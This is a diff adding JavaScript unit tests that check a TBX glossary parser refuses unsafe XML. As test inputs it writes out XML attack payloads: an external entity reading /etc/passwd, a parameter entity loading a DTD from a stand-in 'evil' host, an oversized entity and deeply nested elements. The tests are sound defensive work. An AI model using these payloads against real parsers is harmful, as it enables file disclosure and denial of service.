@@ -219,3 +219,29 @@ describe('GlossarySchema', () => {
       );
   });
 });
+
+describe('parseTbx and the XML safety rule (xml-safety.ts)', () => {
+  const langs = { sourceLang: 'ar', targetLang: 'fr' };
+  it.each([
+    ['an external entity', '<!DOCTYPE martif [<!ENTITY x SYSTEM "file:///etc/passwd">]>', /external entity/],
+    ['a parameter entity', '<!DOCTYPE martif [<!ENTITY % p SYSTEM "http://x/evil.dtd"> %p;]>', /parameter entity/],
+    ['a huge entity', `<!DOCTYPE martif [<!ENTITY x "${'a'.repeat(200_000)}">]>`, /declares an entity/],
+  ])('%s: refused, nothing read, no exception', (_what, doctype, message) => {
+    const r = parseTbx(TBX2.replace('<!DOCTYPE martif SYSTEM "TBXBasiccoreStructV02.dtd">', doctype), langs);
+    expect(r).toMatchObject({
+      refused: true,
+      entries: [],
+      errors: [{ line: 2, message: expect.stringMatching(message) }],
+    });
+  });
+
+  it('50,000 nested elements: refused, no exception', () => {
+    const deep = TBX2.replace('<text>', `<text>${'<hi>'.repeat(50_000)}${'</hi>'.repeat(50_000)}`);
+    expect(parseTbx(deep, langs)).toMatchObject({ refused: true, errors: [{ message: /nested more than/ }] });
+  });
+
+  it('numeric character references are decoded in terms', () => {
+    const r = parseTbx(TBX2.replace('que Dieu le protège', 'que Dieu le prot&#xE8;ge'), langs);
+    expect(r.entries[0]!.forbidden).toContain('que Dieu le protège');
+  });
+});
